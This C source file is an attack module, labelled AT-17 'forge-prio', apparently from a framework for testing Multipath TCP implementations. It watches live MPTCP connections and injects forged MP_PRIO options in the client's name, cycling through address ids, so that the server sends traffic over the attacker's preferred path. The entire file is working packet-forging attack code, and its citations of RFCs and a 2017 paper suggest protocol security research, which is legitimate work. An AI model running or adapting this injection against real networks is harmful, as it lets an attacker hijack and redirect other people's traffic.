/* SPDX-License-Identifier: MIT */
/*
 * AT-17: MP_PRIO in the client's name, so that the server sends where the
 * attacker wants it to. RFC 6824 lets it name any address of the client's by
 * its id; RFC 8684 only the subflow that carries it.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

enum { IDS = 8 }; /* address ids it tries */

static const char *const names_words[] = {"others", "own", NULL};
enum { NAMES, OWN = 1 };
static const struct atk_param params[] = {
    [NAMES] = {"names", ATK_P_WORD, .words = names_words},
    {.name = NULL},
};

static void send_prio(struct atk *a, const struct atk_watched *f, bool has_id,
                      uint8_t id, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_PRIO, .u.prio = {true, has_id, id}};
    struct atk_opts opts = {0};

    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, 0, MPX_TCP_ACK, &opts, NULL, 0, now);
}

static void on_start(struct atk *a, void *state, uint64_t now)
{
    const struct atk_flows *t = state;

    for (unsigned i = 0; i < t->n; i++) {
        const struct atk_watched *f = &t->v[i];

        if (!atk_flows_live(f))
            continue;
        if (atk_param(a, NAMES) == OWN)
            send_prio(a, f, false, 0, now);
        for (uint8_t id = 0; atk_param(a, NAMES) != OWN && id < IDS; id++)
            if (id != f->way[0].join.addr_id)
                send_prio(a, f, true, id, now);
    }
}

const struct atk_ops atk_prio_forge = {
    .name = "forge-prio",
    .id = "AT-17",
    .does = "sends MP_PRIO in the name of the client, so that the server "
            "prefers its path",
    .source = "RFC 6824 and RFC 8684 section 3.3.8; Munir et al. 2017",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .state_size = sizeof(struct atk_flows),
    .on_segment = atk_flows_watch,
    .on_start = on_start,
};
